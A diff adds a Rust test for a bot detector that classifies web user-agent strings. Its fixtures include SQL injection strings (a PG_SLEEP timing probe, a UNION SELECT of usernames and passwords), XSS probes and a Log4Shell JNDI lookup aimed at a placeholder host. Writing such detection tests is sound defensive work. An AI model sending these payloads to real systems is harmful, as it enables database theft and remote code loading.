@@ -148,3 +148,24 @@ fn common_browsers_are_not_bots() {
         assert!(!Detector::builtin().is_bot(ua), "{ua}: {:?}", ids(ua));
     }
 }
+
+#[test]
+fn sql_text_alone_is_left_to_the_shield_while_markup_probes_are_bots() {
+    // Real browser logs (isbot's browser fixtures, Matomo's device list) hold UAs overwritten
+    // with SQL; the client behind them is unknown, and the shield judges the text itself.
+    for ua in [
+        "LWPrCa2l') OR 941=(SELECT 941 FROM PG_SLEEP(15))--",
+        "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Win64; x64; Trident/5.0)69706759&#039;%20or%208056%3d8057--%20",
+        "1 UNION SELECT username, password FROM users",
+    ] {
+        assert!(!Detector::builtin().is_bot(ua), "{ua}: {:?}", ids(ua));
+    }
+    // Markup and script probes are written by scanners, which still count as bots.
+    for ua in [
+        "<script>alert(1)</script>",
+        "javascript:/*&lt;/script&gt;&lt;svg/onload=alert(1)",
+        "${jndi:ldap://x.example/a}",
+    ] {
+        assert!(Detector::builtin().is_bot(ua), "{ua}");
+    }
+}
